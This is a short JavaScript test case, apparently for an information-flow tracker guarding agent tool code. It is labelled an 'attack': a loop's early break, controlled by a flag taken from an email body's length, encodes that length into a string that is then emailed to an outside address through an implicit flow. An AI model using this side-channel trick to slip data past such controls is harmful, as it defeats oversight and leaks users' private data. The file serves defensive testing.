// attack: a plain loop whose labeled if (an email flag) breaks out early; the number text built natively after the loop ('g' + count) is sent
// normal: leaks (implicit flow, allowed in NORMAL mode: the write ran in a branch)
const m = await getEmail('m1');
const flags = [false, m.body.length > 3, false, false];
let count = 0;
for (let i = 0; i < 4; i++) {
  count = count + 1;
  if (flags[i]) {
    break;
  }
}
let t = '';
for (let j = 0; j < 1; j++) {
  t = 'g' + count;
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: t });
